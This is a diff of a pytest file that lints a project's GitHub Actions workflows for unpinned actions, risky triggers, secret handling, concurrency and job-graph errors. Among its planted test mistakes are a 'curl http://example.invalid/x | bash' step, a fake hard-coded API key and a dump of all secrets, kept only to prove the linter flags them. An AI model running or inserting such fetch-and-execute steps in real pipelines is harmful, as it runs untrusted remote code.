@@ -12,10 +12,18 @@ from typing import Any
 import pytest
 import yaml
 
+from .shipping import RULES as SHIPPING
+from .shipping import needed
+
 Flow = dict[Any, Any]
+Program = Callable[[str], ModuleType]
 FORBIDDEN_EVENTS = {"pull_request_target", "workflow_run"}
 RUNNERS = {"ubuntu-24.04"}
+MAKERS = {"actions", "aquasecurity", "Azure", "docker", "github", "ossf"}  # whose actions a run trusts
 MAX_MINUTES = 30
+ROOT = Path(__file__).resolve().parents[2]
+SPARED = ("train", "contract", "image")  # the jobs that the plan may skip
+FROM_THE_CALLER = {"bundle", "report", "manifests"}  # artifacts of ci.yml's run, which a called file may take
 
 
 def jobs(flow: Flow) -> Iterator[tuple[str, dict[str, Any]]]:
@@ -28,8 +36,9 @@ def steps(flow: Flow) -> Iterator[tuple[str, dict[str, Any]]]:
             yield f"{name}, step {number}", step
 
 
-def needed(job: dict[str, Any]) -> list[str]:
-    return [job["needs"]] if isinstance(job.get("needs"), str) else job.get("needs", [])
+def called(flow: Flow) -> bool:
+    """Whether only other workflows start this one, whose concurrency and filters then hold."""
+    return set(events(flow)) == {"workflow_call"}
 
 
 def events(flow: Flow) -> dict[str, Any]:
@@ -45,7 +54,7 @@ def triggers(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
         f"on {event}: it would give a stranger our token" for event in sorted(FORBIDDEN_EVENTS & set(events(flow)))
     )
     for event, filters in events(flow).items():
-        if filters and {"paths", "paths-ignore"} & set(filters):
+        if isinstance(filters, dict) and {"paths", "paths-ignore"} & set(filters):
             yield f"on {event}: a path filter leaves the required check waiting for ever"
 
 
@@ -61,15 +70,17 @@ def permissions(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
 
 
 def pins(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
-    for uses, comment in re.findall(r"uses: *(\S+)(.*)", text):
+    for uses, comment in re.findall(r"\buses: *(\S+)(.*)", text):
         if uses.startswith(("$/", "./")):
             continue
-        if not re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", uses):
+        if uses.partition("/")[0] not in MAKERS:
+            yield f"{uses}: not of a maker we trust; weigh it, then add it to MAKERS"
+        if not re.fullmatch(r"[\w.-]+(/[\w-][\w.-]*)+@[0-9a-f]{40}", uses):
             yield f"{uses}: not pinned by commit"
         elif not re.fullmatch(r" # v\d+(\.\d+)*", comment):
             yield f"{uses}: its version is not beside it"
     versions: dict[str, set[str]] = {}
-    for action, pin in re.findall(r"uses: *([\w./-]+)@(\S+)", text):
+    for action, pin in re.findall(r"\buses: *([\w./-]+)@(\S+)", text):
         versions.setdefault(action, set()).add(pin)
     yield from (f"{action}: pinned to several commits" for action, found in versions.items() if len(found) > 1)
 
@@ -96,8 +107,16 @@ def bounds(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
             yield f"{name}: runs-on must be one of {', '.join(RUNNERS)}"
         if "container" in job or "services" in job:
             yield f"{name}: a container of its own is one more thing to pin"
+    for name, job in jobs(flow):
+        if "concurrency" in job and job["concurrency"].get("cancel-in-progress") is not False:
+            yield f"{name}: its concurrency must let what runs end"
     concurrency = flow.get("concurrency")
-    if not isinstance(concurrency, dict) or "github.ref" not in concurrency.get("group", ""):
+    if called(flow):
+        return
+    if not set(events(flow)) & {"push", "pull_request", "merge_group"}:
+        if not isinstance(concurrency, dict) or concurrency.get("cancel-in-progress") is not False:
+            yield "concurrency must let what runs end"
+    elif not isinstance(concurrency, dict) or "github.ref" not in concurrency.get("group", ""):
         yield "concurrency must be grouped by ref"
     elif "push" in events(flow) and concurrency.get("cancel-in-progress") != "${{ github.ref != 'refs/heads/main' }}":
         yield "concurrency may cancel every ref but main"
@@ -112,6 +131,19 @@ def results(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
             yield f"{where}: always() runs even when cancelled; use !cancelled()"
         if "upload-artifact" in step.get("uses", "") and "if-no-files-found" not in step.get("with", {}):
             yield f"{where}: an artifact may be missing unseen"
+
+
+def calls(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
+    """A job calls a file of ours and nothing else, a step an action; and what a job waits for is there."""
+    for name, job in jobs(flow):
+        yield from (f"{name}: it needs {other}, which is no job" for other in needed(job) if other not in flow["jobs"])
+        if name in behind(flow, name):
+            yield f"{name}: it waits for itself"
+        if "uses" in job and not job["uses"].startswith("$/.github/workflows/"):
+            yield f"{name}: it calls {job['uses']}, which is no workflow of this commit"
+    for where, step in steps(flow):
+        if ".github/workflows/" in step.get("uses", ""):
+            yield f"{where}: a workflow is called by a job, not by a step"
 
 
 def secrets(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
@@ -148,7 +180,9 @@ def versions(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
 def names(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
     for name, job in jobs(flow):
         told = job.get("name", "")
-        if name != "required" and not re.fullmatch(r"[A-Z]\w* .+[^.]", told):
+        if job.get("name") and "'required'" in told:
+            continue
+        if not re.fullmatch(r"[A-Z]\w* .+[^.]", told):
             yield f"{name}: its name is no sentence: {told!r}"
 
 
@@ -157,37 +191,75 @@ def graph(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
     if "required" not in flow["jobs"]:
         return
     verdict = flow["jobs"]["required"]
-    if missing := set(flow["jobs"]) - {"required"} - set(needed(verdict)):
+    after = {name for name, job in jobs(flow) if "required" in behind(flow, name)} | {"comment"}  # it only tells
+    if missing := set(flow["jobs"]) - {"required"} - after - set(needed(verdict)):
         yield f"required does not wait for {', '.join(sorted(missing))}"
     if verdict.get("if") != "${{ always() }}":
         yield "required must run always(): a skipped check counts as success"
     if verdict["steps"][-1].get("env", {}).get("NEEDS") != "${{ toJSON(needs) }}":
         yield "required does not see the results"
-    planned = flow["jobs"]["plan"].get("outputs", {})
-    for name, job in jobs(flow):
-        if name == "required" or "if" not in job:
-            continue
-        if job["if"] != f"needs.plan.outputs.{name} == 'true'" or "plan" not in needed(job):
+    yield from (f"{name}: planned, and never spared" for name in SPARED if "if" not in flow["jobs"].get(name, {}))
+    if missing := {"push", "pull_request", "merge_group"} - set(events(flow)):
+        yield f"required never comes for {', '.join(sorted(missing))}"
+    for event in ("pull_request", "merge_group"):
+        if events(flow).get(event):
+            yield f"on {event}: a filter leaves the required check waiting for ever"
+    for name in needed(verdict):
+        job = flow["jobs"].get(name, {})
+        if "if" in job and (job["if"] != f"needs.plan.outputs.{name} == 'true'" or "plan" not in needed(job)):
             yield f"{name}: it may be skipped by nothing but the plan's output {name}"
-        if planned.get(name) != f"${{{{ steps.plan.outputs.{name} }}}}":
+        if "needs.plan.result" in json.dumps(job):
+            yield f"{name}: ask the plan's output, not its result"
+
+
+def plan(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
+    """The plan hands on an output for each job that may be skipped, through both of its layers."""
+    if "plan" not in flow["jobs"] or "steps" not in flow["jobs"]["plan"]:
+        return
+    inner, outer = flow["jobs"]["plan"].get("outputs", {}), events(flow)["workflow_call"]["outputs"]
+    for name in SPARED:
+        if inner.get(name) != f"${{{{ steps.plan.outputs.{name} }}}}":
             yield f"{name}: the plan has no such output"
-    yield from (f"{name}: planned, and never spared" for name in planned if "if" not in flow["jobs"].get(name, {}))
+        if outer.get(name) != {"value": f"${{{{ jobs.plan.outputs.{name} }}}}"}:
+            yield f"{name}: the plan hands no such output on"
+    yield from (f"{name}: planned, and never spared" for name in {*inner, *outer} - set(SPARED))
+
+
+def behind(flow: Flow, name: str) -> set[str]:
+    """All that a job waits for, and what that waits for; itself too where they wait in a circle."""
+    found: set[str] = set()
+    todo = needed(flow["jobs"].get(name, {}))
+    while todo := [other for other in todo if other not in found]:
+        found.update(todo)
+        todo = [further for other in todo for further in needed(flow["jobs"].get(other, {}))]
+    return found
 
 
 def artifacts(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
-    made = {
-        step["with"]["name"]: where.split(",")[0]
-        for where, step in steps(flow)
-        if "upload-artifact" in step.get("uses", "")
-    }
-    for where, step in steps(flow):
-        if "download-artifact" in step.get("uses", ""):
-            name, job = step["with"].get("name", ""), flow["jobs"][where.split(",")[0]]
-            if made.get(name) not in needed(job):
-                yield f"{where}: no job that it needs uploads {name!r}"
+    """What a job takes was uploaded by a job behind it; the files that it calls count as its own."""
+    made: dict[str, str] = {}
+    taken: list[tuple[str, str]] = []
+    for name, job in jobs(flow):
+        inner = flow if "uses" not in job else yaml.safe_load((ROOT / job["uses"].removeprefix("$/")).read_text())
+        own = {where.split(",")[0] for where, _ in steps(inner)} if "uses" in job else {name}
+        for where, step in steps(inner):
+            if where.split(",")[0] in own:
+                given, uses = step.get("with", {}), step.get("uses", "")
+                if "upload-artifact" in uses:
+                    made[given["name"]] = name
+                if "download-artifact" in uses:
+                    taken.append((name, given.get("name", given.get("pattern", ""))))
+    for name, artifact in taken:
+        if artifact in made and made[artifact] != name and made[artifact] not in behind(flow, name):
+            yield f"{name}: no job that it needs uploads {artifact!r}"
+        elif artifact not in made and not (called(flow) and artifact in FROM_THE_CALLER):
+            yield f"{name}: nothing uploads {artifact!r}"
 
 
-RULES = (triggers, permissions, pins, commands, bounds, results, secrets, versions, names, graph, artifacts)
+RULES = (
+    *(triggers, permissions, pins, commands, bounds, results, calls, secrets, versions, names, graph, plan, artifacts),
+    *SHIPPING,
+)
 
 
 def faults(text: str, targets: set[str]) -> list[str]:
@@ -204,22 +276,42 @@ def known(targets: dict[str, str]) -> set[str]:
 
 
 @pytest.fixture(scope="session")
-def ci(root: Path) -> str:
-    return (root / ".github/workflows/ci.yml").read_text(encoding="utf-8")
+def flows(root: Path) -> dict[str, str]:
+    return {path.name: path.read_text(encoding="utf-8") for path in sorted((root / ".github/workflows").iterdir())}
 
 
-def test_every_workflow_keeps_the_rules(root: Path, known: set[str]) -> None:
-    folder = root / ".github/workflows"
-    assert {"ci.yml"} <= {path.name for path in folder.iterdir()}
-    for path in folder.iterdir():
-        assert faults(path.read_text(encoding="utf-8"), known) == [], path.name
+def test_every_workflow_keeps_the_rules(flows: dict[str, str], known: set[str]) -> None:
+    assert {"ci.yml", "promote.yml", "rollback.yml", "retrain.yml", "security.yml", "daily.yml"} <= set(flows)
+    assert {name: [] for name in flows} == {name: faults(text, known) for name, text in flows.items()}
 
 
-def test_the_plan_and_the_workflow_name_the_same_jobs(ci: str, program: Callable[[str], ModuleType]) -> None:
-    assert set(program("plan").SPARED) == set(yaml.safe_load(ci)["jobs"]["plan"]["outputs"])
+def test_one_commit_of_each_action_serves_all_workflows(flows: dict[str, str]) -> None:
+    assert list(pins(yaml.safe_load("on: push\njobs: {}"), "\n".join(flows.values()), set())) == []
 
 
-CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
+def test_the_plan_and_the_workflow_name_the_same_jobs(flows: dict[str, str], program: Program) -> None:
+    assert SPARED == program("plan").SPARED
+    conductor = yaml.safe_load(flows["ci.yml"])
+    assert set(SPARED) == {n for n in needed(conductor["jobs"]["required"]) if "if" in conductor["jobs"][n]}
+
+
+def test_a_caller_grants_what_the_file_it_calls_asks_for(root: Path, flows: dict[str, str]) -> None:
+    """GitHub refuses to start a run where a called job asks for more."""
+    level = {"none": 0, "read": 1, "write": 2}
+    for name, text in flows.items():
+        for job, facts in jobs(yaml.safe_load(text)):
+            if "uses" not in facts:
+                continue
+            assert facts["uses"].startswith("$/.github/workflows/"), f"{name}: {job}"
+            inner = yaml.safe_load((root / facts["uses"].removeprefix("$/")).read_text(encoding="utf-8"))
+            asked: dict[str, str] = {}
+            for _, step in jobs(inner):
+                for what, how in step["permissions"].items():
+                    asked[what] = max(asked.get(what, "none"), how, key=level.__getitem__)
+            assert asked == facts["permissions"], f"{name}: {job}"
+
+
+CHECKOUT = re.findall(r"actions/checkout@.+", (ROOT / ".github/workflows/check.yml").read_text(encoding="utf-8"))[0]
 PLANTS = [
     ("  pull_request:\n", "  pull_request_target:\n", "our token"),
     ("  pull_request:\n", "  pull_request:\n    paths: [src/**]\n", "waiting for ever"),
@@ -233,7 +325,11 @@ PLANTS = [
     (CHECKOUT, "actions/checkout@main", "not pinned by commit"),
     (CHECKOUT, CHECKOUT.split(" #")[0], "version is not beside it"),
     (CHECKOUT, CHECKOUT.split(" #")[0] + " # newest", "version is not beside it"),
-    (CHECKOUT, CHECKOUT.replace("@3d3c", "@4d3c"), "several commits"),
+    (
+        f"{CHECKOUT}\n        with:\n          persist",
+        f"actions/checkout@{'0' * 40} # v1\n        with:\n          persist",
+        "several commits",
+    ),
     ("run: make check", "run: make checks", "no target checks"),
     ("run: make check", "run: make check || true", "more than one make target"),
     ("run: make check", "run: curl http://example.invalid/x | bash", "more than one make target"),
@@ -251,14 +347,14 @@ PLANTS = [
     ("if: ${{ !cancelled() }}\n        uses", "if: ${{ always() }}\n        uses", "use !cancelled()"),
     ("          if-no-files-found: error\n", "", "missing unseen"),
     ("run: make check", "run: make check\n        env:\n          ALL: ${{ toJSON(secrets) }}", "at once"),
-    ('  PYTHON_VERSION: "3.13"', "  PYTHON_VERSION: ${{ secrets.PYTHON }}", "of every job"),
+    ("permissions: {}\n", "permissions: {}\nenv: {KEY: '${{ secrets.KEY }}'}\n", "of every job"),
     ("    steps:\n", "    env:\n      KEY: ${{ secrets.KEY }}\n    steps:\n", "of every step"),
     ("run: make check", "run: make check\n        env:\n          KEY: ${{ secrets.KEY }}", "outside an environment"),
     ("run: make check", "run: make check\n        env:\n          API_KEY: sk_live_1234", "is written out"),
     ("          persist-credentials: false\n", "          fetch-tags: false\n", "credentials behind"),
     ("persist-credentials: false", "persist-credentials: true", "credentials behind"),
-    ("python-version: ${{ env.PYTHON_VERSION }}", "python-version: 3.10", "quote python-version"),
-    ('PYTHON_VERSION: "3.13"', "PYTHON_VERSION: 3.10", "quote 3.1"),
+    ('python-version: "3.13"', "python-version: 3.10", "quote python-version"),
+    ("permissions: {}\n", "permissions: {}\nenv: {PYTHON_VERSION: 3.10}\n", "quote 3.1"),
     ('["3.11", "3.13"]', "[3.11, 3.13]", "quote 3.11"),
     ("name: Render and validate the manifests", "name: manifests", "no sentence"),
     ("needs: [plan, check, test,", "needs: [plan, check,", "does not wait for test"),
@@ -273,17 +369,25 @@ PLANTS = [
     ("      image: ${{ steps.plan.outputs.image }}\n", "", "no such output"),
     ("      image: ${{ steps.plan.outputs.image }}\n", "      image: 'false'\n", "no such output"),
     ("    if: needs.plan.outputs.train == 'true'\n", "", "never spared"),
+    (
+        "      image: ${{ steps.plan.outputs.image }}\n",
+        "      image: ${{ steps.plan.outputs.image }}\n      test: 'false'\n",
+        "never spared",
+    ),
+    ("        value: ${{ jobs.plan.outputs.image }}\n", "        value: 'false'\n", "hands no such output on"),
     ("    needs: [plan, train]\n", "    needs: plan\n", "uploads 'bundle'"),
     (
         "          name: bundle\n          path: build/bundle\n      - run: make contract",
         "          name: bundel\n          path: build/bundle\n      - run: make contract",
-        "uploads 'bundel'",
+        "nothing uploads 'bundel'",
     ),
 ]
 
 
 @pytest.mark.parametrize(("good", "bad", "says"), PLANTS, ids=[f"{says}-{bad.strip()[:40]}" for _, bad, says in PLANTS])
-def test_a_planted_mistake_is_found(ci: str, known: set[str], good: str, bad: str, says: str) -> None:
-    assert good in ci, "the plant no longer grows here"
-    found = faults(ci.replace(good, bad, 1), known)
-    assert any(says in fault for fault in found), found
+def test_a_planted_mistake_is_found(flows: dict[str, str], known: set[str], good: str, bad: str, says: str) -> None:
+    """In the first workflow that holds what the mistake replaces; ci.yml above all."""
+    found = [flows[name] for name in sorted(flows, key=lambda name: name != "ci.yml") if good in flows[name]]
+    assert found, "the plant no longer grows here"
+    faulty = faults(found[0].replace(good, bad, 1), known)
+    assert any(says in fault for fault in faulty), faulty
